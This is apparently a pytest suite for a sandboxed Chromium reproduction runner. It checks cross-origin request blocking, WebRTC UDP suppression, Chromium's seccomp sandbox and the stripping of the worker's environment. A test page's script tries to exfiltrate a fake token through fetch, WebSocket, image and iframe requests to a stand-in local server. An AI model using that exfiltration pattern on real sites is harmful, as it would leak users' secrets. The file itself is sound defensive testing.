"""Hostile app pages in the reproduction browser: requests to other origins are blocked (none reaches its
server) and listed in the result, the log and the reviewer's report; Chromium runs with its own sandbox, as
an unprivileged user when the worker is root, without the worker's environment.

Everything is real: Chromium, the app served over HTTP, and a second local server that counts every TCP
connection it accepts (so "no hit" means no connection at all, not merely no well-formed request).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from temporalio.testing import ActivityEnvironment

from browser.executable import CHROMIUM_EXECUTABLES
from browser.origins import OriginPolicy, parse_origin
from browser.procedure import parse_procedure
from browser.results import ReproductionStatus
from browser.runner import BrowserRunner
from environments.interface import AppRecipe, EnvironmentHandle, RecoverySpec
from evidence.bundle import RevisionEvidence
from evidence.interface import ArtifactKind
from evidence.local import LocalArtifactStore
from evidence.report import render_report
from pipeline.activities.browser import BrowserActivities
from pipeline.steps import ReproduceInput
from tests.support.browser_apps import serve_static
from tests.support.chromium import chromium_path
from tests.support.evidence_samples import run_bundle, solid_png, store_cart_bundle
from tests.support.proctree import Proc, descendants, is_chromium, is_chromium_browser
from tests.support.served import QuietHandler, served

BASE = "a" * 40
CANDIDATE = "b" * 40
RUN_ID = "repair:acme/shop#7"

# The page asks for everything at once: the fetch and the socket report back in #status.
PROBE = parse_procedure(
    "version: 1\nname: exfiltration probe\nsteps:\n"
    "  - {action: goto}\n"
    "  - {action: expect_text, selector: '#status', contains: fetch, timeout_ms: 10000}\n"
    "bug_present:\n"
    "  - {action: expect_text, selector: '#status', equals: 'fetch blocked, socket blocked'}\n"
)


def probe_page(other: str) -> str:
    """An app page whose script reaches for ``other`` (another local origin) every way a page can."""
    socket_url = other.replace("http://", "ws://", 1)
    return f"""<!doctype html><html><head><title>shop</title></head><body>
<p id="status">pending</p>
<img src="{other}/pixel.png" alt="">
<iframe src="{other}/frame"></iframe>
<script>
async function probe() {{
  let fetched;
  try {{ await fetch("{other}/steal?token=t0ps3cret", {{mode: "no-cors"}}); fetched = "reached"; }}
  catch (err) {{ fetched = "blocked"; }}
  const socket = await new Promise((resolve) => {{
    const ws = new WebSocket("{socket_url}/socket");
    ws.onopen = () => resolve("reached");
    ws.onerror = () => resolve("blocked");
    ws.onclose = () => resolve("blocked");
  }});
  document.getElementById("status").textContent = `fetch ${{fetched}}, socket ${{socket}}`;
}}
probe();
</script></body></html>"""


class CountingServer(ThreadingHTTPServer):
    """Counts every connection it accepts (before any HTTP is parsed) and answers 200 to any GET."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.lock = threading.Lock()
        self.connections = 0
        self.paths: list[str] = []

    def process_request(self, request: Any, client_address: Any) -> None:
        with self.lock:
            self.connections += 1
        super().process_request(request, client_address)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Answer(QuietHandler):
    server: CountingServer

    def do_GET(self) -> None:
        with self.server.lock:
            self.server.paths.append(self.path)
        self.answer(200, b"ok", ("Content-Type", "text/plain"), ("Access-Control-Allow-Origin", "*"))


@contextmanager
def counting_server() -> Iterator[CountingServer]:
    server = CountingServer()
    with served(server):
        yield server


# ---- origins ------------------------------------------------------------------------------------------------


def test_origins_are_normalized_and_anything_else_is_refused() -> None:
    assert parse_origin("HTTPS://CDN.Example") == "https://cdn.example:443"
    assert parse_origin("http://127.0.0.1:9000/") == "http://127.0.0.1:9000"
    for bad in ("ftp://x", "http://x/api", "http://x?q", "http://user:pw@x", "localhost:80", "file:///etc"):
        with pytest.raises(ValueError, match="not an origin"):
            parse_origin(bad)
    policy = OriginPolicy.for_app("http://127.0.0.1:8000/", ["https://cdn.example"])
    assert policy.allowed == ("http://127.0.0.1:8000", "https://cdn.example:443")
    assert policy.allows("http://127.0.0.1:8000/api?x=1")
    assert policy.allows("ws://127.0.0.1:8000/live")
    assert policy.allows("https://CDN.example:443/lib.js")
    assert policy.allows("data:text/plain,hi")
    for other in ("http://127.0.0.1:8001/", "http://localhost:8000/", "https://127.0.0.1:8000/", "file:///etc/passwd"):
        assert not policy.allows(other), other


def test_the_recipe_declares_extra_browser_origins_validated_as_origins() -> None:
    recipe = AppRecipe(start="serve", test="check", browser_origins=["https://CDN.example", "http://127.0.0.1:9/"])
    assert recipe.browser_origins == ["https://cdn.example:443", "http://127.0.0.1:9"]
    assert AppRecipe(start="serve", test="check").browser_origins == []
    with pytest.raises(ValidationError) as refused:
        AppRecipe(start="serve", test="check", browser_origins=["http://evil.example/x"])
    (error,) = refused.value.errors()
    assert error["loc"] == ("browser_origins",)
    assert "'http://evil.example/x' is not an origin: no path, query or fragment" in error["msg"]


# ---- requests to other origins ----------------------------------------------------------------------------


@pytest.mark.browser
def test_a_request_to_another_origin_is_blocked_reaches_nothing_and_is_listed(
    runner: BrowserRunner, tmp_path: Path
) -> None:
    with counting_server() as other, serve_static({"/": probe_page(other.origin)}) as app:
        result = runner.run(PROBE, app, tmp_path / "blocked")

    assert result.status == ReproductionStatus.REPRODUCED, result.detail
    assert other.connections == 0 and other.paths == []
    blocked = {(b.url, b.resource_type) for b in result.blocked_requests}
    assert blocked == {
        (f"{other.origin}/pixel.png", "image"),
        (f"{other.origin}/frame", "document"),
        (f"{other.origin}/steal?token=t0ps3cret", "fetch"),
        (f"{other.origin.replace('http', 'ws')}/socket", "websocket"),
    }
    assert result.allowed_origins == [app]  # the app's own origin only
    log = json.loads(result.log_path.read_text())
    assert log["blocked_requests"] == [b.model_dump(mode="json") for b in result.blocked_requests]
    assert log["allowed_origins"] == [app]
    assert {e["url"] for e in log["runs"][0]["events"] if e["kind"] == "blocked"} == {u for u, _ in blocked}


def installed_builds() -> list[str]:
    """The Chromium builds a worker may launch (:data:`CHROMIUM_EXECUTABLES`) that this machine has: each reads
    the WebRTC policy from a switch of its own, so each is attacked."""
    found = [path for name in CHROMIUM_EXECUTABLES if (path := shutil.which(name)) is not None]
    return found or [chromium_path()]


@pytest.mark.browser
@pytest.mark.parametrize("build", installed_builds(), ids=lambda path: Path(path).name)
def test_webrtc_sends_no_udp_past_the_guard(build: str, tmp_path: Path) -> None:
    """A page asks a STUN "server" on a local UDP port for its address: not one datagram arrives (without
    the runner's WebRTC policy, Chromium sends several), whichever build the worker launches."""
    received: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.settimeout(0.1)
        port = udp.getsockname()[1]
        page = (
            "<!doctype html><p id='s'>gathering</p><script>"
            f"const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}});"
            "pc.createDataChannel('d'); pc.createOffer().then((offer) => pc.setLocalDescription(offer));"
            "setTimeout(() => { document.getElementById('s').textContent = 'done'; }, 2000);</script>"
        )
        procedure = parse_procedure(
            "version: 1\nname: stun\nsteps:\n  - {action: goto}\n"
            "  - {action: expect_text, selector: '#s', equals: done, timeout_ms: 10000}\n"
            "bug_present:\n  - {action: expect_visible, selector: '#s'}\n"
        )
        with serve_static({"/": page}) as app, BrowserRunner(executable_path=build) as runner:
            result = runner.run(procedure, app, tmp_path / "stun")
        deadline = time.monotonic() + 0.5
        while time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError):
                received.append(udp.recv(2048))
    assert result.status == ReproductionStatus.REPRODUCED, result.detail
    assert received == []


@pytest.mark.browser
def test_an_origin_the_recipe_declares_is_reached(runner: BrowserRunner, tmp_path: Path) -> None:
    """The same page, with the other server's origin allowed: its requests arrive (so the test above would
    see them if they were not blocked)."""
    with counting_server() as other, serve_static({"/": probe_page(other.origin)}) as app:
        result = runner.run(PROBE, app, tmp_path / "allowed", allowed_origins=[other.origin])

    assert {"/pixel.png", "/frame", "/steal?token=t0ps3cret"} <= set(other.paths)
    assert result.blocked_requests == []
    assert result.runs[0].assertions[0].actual is not None
    assert result.runs[0].assertions[0].actual.startswith("fetch reached")


@pytest.mark.browser
def test_the_reproduce_activity_allows_the_recipes_origins_and_the_report_lists_what_was_blocked(
    runner: BrowserRunner, tmp_path: Path
) -> None:
    """Through the browser queue's own activity: the recipe in the run's stored spec allows one extra origin;
    requests to a third are blocked, and the reviewer's report has a "Blocked requests" section."""
    store = LocalArtifactStore(tmp_path / "store")
    activities = BrowserActivities(store, lambda: runner)
    procedure = store.put_bytes(PROBE.model_dump_json().encode(), kind=ArtifactKind.PROCEDURE, run_id=RUN_ID)
    with counting_server() as cdn, counting_server() as other:
        page = probe_page(other.origin).replace("</body>", f'<img src="{cdn.origin}/logo.png" alt=""></body>')
        recipe = AppRecipe(start="serve", test="check", browser_origins=[cdn.origin])
        spec = RecoverySpec(repository="acme/shop", clone_url="file:///shop", base_revision=BASE, recipe=recipe)
        spec_ref = store.put_bytes(spec.model_dump_json().encode(), kind=ArtifactKind.SPEC, run_id=RUN_ID)
        with serve_static({"/": page}) as app:
            environment = EnvironmentHandle(env_id="env-base", provider="local", run_id=RUN_ID, op_id="e", base_url=app)
            inp = ReproduceInput(
                run_id=RUN_ID,
                op_id=f"{RUN_ID}:reproduce-base:1",
                revision=BASE,
                procedure_ref=procedure,
                environment=environment,
                spec_ref=spec_ref,
            )
            reproduced = ActivityEnvironment().run(activities.reproduce, inp)

    assert reproduced.status == ReproductionStatus.REPRODUCED, reproduced.detail
    assert set(cdn.paths) == {"/logo.png"}
    assert other.connections == 0
    base = RevisionEvidence.from_refs("base", BASE, reproduced.status.value, reproduced.artifacts)
    candidate = RevisionEvidence.from_refs("candidate", CANDIDATE, "not_reproduced", [])
    patch = store.put_bytes(b"+fix\n", kind=ArtifactKind.PATCH, run_id=RUN_ID)
    bundle = run_bundle(procedure, base, candidate, patch, base_revision=BASE, candidate_commit=CANDIDATE)
    report = render_report(bundle, store, tmp_path / "report").read_text()
    start = report.index('<section id="blocked-requests">')
    section = report[start : report.index("</section>", start)]
    assert f"<code>{other.origin}/steal?token=t0ps3cret</code>" in section
    assert f"<code>{other.origin.replace('http', 'ws')}/socket</code>" in section
    assert f"{cdn.origin}/logo.png" not in section
    assert f"allowed origins: <code>{app}</code>, <code>{cdn.origin}</code>" in section


def test_the_report_has_no_blocked_requests_section_when_nothing_was_blocked(tmp_path: Path) -> None:
    store = LocalArtifactStore(tmp_path / "store")
    bundle = store_cart_bundle(store, solid_png(8, 4, (200, 0, 0)), solid_png(8, 4, (0, 160, 0)))
    assert 'id="blocked-requests"' not in render_report(bundle, store, tmp_path / "report").read_text()


# ---- Chromium's own sandbox -------------------------------------------------------------------------------


def _is_chromium(argv: list[str]) -> bool:
    # Chromium's helpers rewrite their title: all of the command line may be in argv[0].
    return is_chromium(argv[0].split(" ", 1)[0])


def _status(pid: int) -> dict[str, str]:
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return {k: v.strip() for k, _, v in (line.partition(":") for line in lines)}


# Each of these launches a browser of its own (about 5 s, more on a busy machine).
@pytest.mark.browser
@pytest.mark.slow
def test_chromium_runs_with_its_sandbox_as_an_unprivileged_user_without_the_workers_environment(
    chromium: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DURAFIX_FORGE_TOKEN", "canary-forge-token")
    page = "<!doctype html><p id='up'>up</p>"
    procedure = parse_procedure(
        "version: 1\nname: up\nsteps:\n  - {action: goto}\n  - {action: wait_for, selector: '#up'}\n"
        "bug_present:\n  - {action: expect_text, selector: '#up', equals: up}\n"
    )
    # Other tests' kept browsers may be alive: only processes that appear with this runner count.
    before = {p.pid for p in descendants()}
    tree: list[Proc] = []
    statuses: dict[int, dict[str, str]] = {}
    namespaces: dict[int, dict[str, str]] = {}
    environs: dict[int, bytes] = {}

    def look_while_the_page_is_open(index: int, _description: str) -> None:
        if index != 1:
            return
        for proc in descendants(matches=_is_chromium):
            if proc.pid in before:
                continue
            tree.append(proc)
            statuses[proc.pid] = _status(proc.pid)
            namespaces[proc.pid] = {ns: os.readlink(f"/proc/{proc.pid}/ns/{ns}") for ns in ("user", "pid")}
            environs[proc.pid] = Path(f"/proc/{proc.pid}/environ").read_bytes()

    with BrowserRunner(executable_path=chromium) as runner, serve_static({"/": page}) as app:
        result = runner.run(procedure, app, tmp_path / "sandboxed", on_step=look_while_the_page_is_open)

    assert result.status == ReproductionStatus.REPRODUCED, result.detail
    assert result.chromium_sandbox and json.loads(result.log_path.read_text())["chromium_sandbox"] is True
    browsers = [p for p in tree if is_chromium_browser(list(p.argv))]
    renderers = [p for p in tree if "--type=renderer" in " ".join(p.argv)]
    assert len(browsers) == 1 and renderers
    browser = browsers[0].pid
    assert "--no-sandbox" not in browsers[0].argv
    expected_uid = os.getuid() if os.geteuid() != 0 else 65534  # nobody
    assert statuses[browser]["Uid"].split()[0] == str(expected_uid)
    assert b"canary-forge-token" not in environs[browser]
    for renderer in renderers:
        # seccomp-bpf filter mode, in its own user and PID namespaces: the sandbox is on.
        assert statuses[renderer.pid]["Seccomp"] == "2"
        assert statuses[renderer.pid]["Uid"].split()[0] != "0"
        for ns in ("user", "pid"):
            assert namespaces[renderer.pid][ns] != namespaces[browser][ns]


@pytest.mark.browser
@pytest.mark.slow
def test_without_the_sandbox_only_when_asked_and_the_log_says_so(
    chromium: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    page = "<!doctype html><p id='up'>up</p>"
    procedure = parse_procedure(
        "version: 1\nname: up\nsteps:\n  - {action: goto}\n"
        "bug_present:\n  - {action: expect_text, selector: '#up', equals: up}\n"
    )
    before = {p.pid for p in descendants()}
    with BrowserRunner(executable_path=chromium, sandbox=False) as runner, serve_static({"/": page}) as app:
        result = runner.run(procedure, app, tmp_path / "unsandboxed")
        browsers = [p for p in descendants(matches=is_chromium_browser) if p.pid not in before]

    assert result.status == ReproductionStatus.REPRODUCED, result.detail
    assert not result.chromium_sandbox and json.loads(result.log_path.read_text())["chromium_sandbox"] is False
    assert len(browsers) == 1 and "--no-sandbox" in browsers[0].argv
    assert any("WITHOUT its sandbox" in r.getMessage() for r in caplog.records)
